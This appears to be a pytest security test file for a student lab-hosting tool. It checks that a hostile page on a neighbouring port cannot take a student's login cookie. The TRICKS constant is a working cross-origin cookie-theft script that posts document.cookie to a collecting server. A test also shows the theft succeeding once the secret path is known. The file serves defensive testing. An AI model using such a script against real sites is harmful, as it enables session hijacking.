"""A student's page against her neighbours: what a real browser gives away to it, and what it does not."""

from __future__ import annotations

import http.server
import itertools
import json
import threading
from collections.abc import Iterator
from http.cookies import SimpleCookie
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import pytest
import requests

from tests.hosts.conftest import JENNIFER, MARTY, STATE, Roster
from tests.lab.browser import Browser
from tests.lab.engine import LabEngine
from tests.lab.namespace import Namespace
from tests.lab.tool import Tool

TRICKS = """<script>
const theirs = location.origin.replace(/\\d+$/, "VICTIM");
for (const path of ["/", "/login", "/lab", "/api", "/favicon.ico", "/robots.txt", "/static/x"]) {
  fetch(path, {credentials: "include"});
  fetch(theirs + path, {credentials: "include", mode: "no-cors"});
}
document.body.append(Object.assign(document.createElement("iframe"), {src: theirs + "/"}));
fetch("/report?cookies=" + encodeURIComponent(document.cookie));
setTimeout(() => document.title = "done", 2000);
</script>"""


class Hostile:
    """A program of one student's, at another port of the address that the seats have. It keeps what it is sent."""

    def __init__(self, host: str, victim: int) -> None:
        self.requests: list[tuple[str, str]] = []
        outer = self

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                outer.requests.append((self.path, self.headers.get("Cookie", "")))
                self.send_response(200)
                self.send_header("Content-Type", "text/html")
                self.end_headers()
                self.wfile.write(b"<body>" + TRICKS.replace("VICTIM", str(victim)).encode())

            def log_message(self, format: str, *args: object) -> None:
                """Nothing to print."""

        self._server = http.server.ThreadingHTTPServer((host, 0), Handler)
        self.url = f"http://{host}:{self._server.server_address[1]}"
        threading.Thread(target=self._server.serve_forever, daemon=True).start()

    @property
    def cookies(self) -> dict[str, str]:
        """Everything that browsers sent it."""
        sent = SimpleCookie()
        for _, header in self.requests:
            sent.load(header)
        return {name: morsel.value for name, morsel in sent.items()}

    def close(self) -> None:
        self._server.shutdown()
        self._server.server_close()


@pytest.fixture
def browser(namespace: Namespace, tmp_path: Path) -> Iterator[Browser]:
    started = Browser(namespace, tmp_path / "browser")
    yield started
    started.close()


@pytest.fixture(scope="module")
def seats(engine: LabEngine, image: str) -> Iterator[dict[str, dict[str, Any]]]:
    tool = Tool(engine, STATE / "theft", {"INVOKE_CLOUDSCALE_IMAGE": image})
    launched = tool.launch(*Roster(STATE / "theft.csv")(MARTY, JENNIFER))
    yield {row["student"]: row for row in launched.rows}
    left = tool("driver_reset", "--yes")
    assert left.code == 0, left.err


def log_in(browser: Browser, seat: dict[str, Any]) -> None:
    browser.open(f"{seat['url']}/login?next={urlsplit(seat['url']).path}/api/status")
    browser.wait("document.querySelector('input[name=password]') !== null")
    browser.run(f"document.querySelector('input[name=password]').value = {json.dumps(seat['password'])}")
    browser.run("document.querySelector('input[name=password]').form.submit()")
    browser.wait("document.body.innerText.includes('last_activity')")


def visit(browser: Browser, url: str) -> None:
    browser.open(url)
    browser.wait("document.title === 'done'")


def is_let_in(seat: dict[str, Any], cookies: dict[str, str]) -> bool:
    return requests.get(f"{seat['url']}/api/contents", cookies=cookies, timeout=30).status_code == 200


def test_a_link_to_a_students_own_page_gives_away_no_login(seats: dict[str, dict[str, Any]], browser: Browser) -> None:
    victim = seats["Jennifer O'Parker"]
    hostile = Hostile(victim["host"], victim["port"])
    try:
        log_in(browser, victim)
        browser.run("document.cookie = 'planted=1; path=/'")
        visit(browser, hostile.url)
        assert {path for path, _ in hostile.requests} >= {"/", "/login", "/lab", "/favicon.ico"}
        assert hostile.cookies == {"planted": "1"}  # cookies do know no ports: the path alone keeps the login back
        assert not is_let_in(victim, hostile.cookies)

        # with the path, the theft would work: it is what must not be known
        visit(browser, hostile.url + urlsplit(victim["url"]).path + "/")
        assert is_let_in(victim, hostile.cookies)
    finally:
        hostile.close()


def test_no_other_address_of_a_server_gives_its_path_away(seats: dict[str, dict[str, Any]]) -> None:
    seat = seats["Marty McFly"]
    origin, _, word = seat["url"].rpartition("/")
    paths = ("/", "/login", "/lab", "/api", "/x/y?z", "/favicon.ico", "/robots.txt", "/static/x", f"/{word[:-1]}")
    for method, path in itertools.product(("GET", "HEAD", "POST", "PUT", "DELETE", "OPTIONS"), paths):
        answer = requests.request(method, origin + path, allow_redirects=False, timeout=30)
        assert answer.status_code == 404, (method, path)
        assert word not in answer.text + str(answer.headers), (method, path)
        assert not answer.cookies, (method, path)


def test_nobody_fills_a_servers_memory_before_the_login(seats: dict[str, dict[str, Any]]) -> None:
    seat = seats["Marty McFly"]
    for body in (b"x" * (1 << 20), iter([b"x" * (1 << 20)])):  # by its length, and in chunks
        refused = requests.post(f"{seat['url']}/login", data=body, timeout=30)
        assert refused.status_code == 413
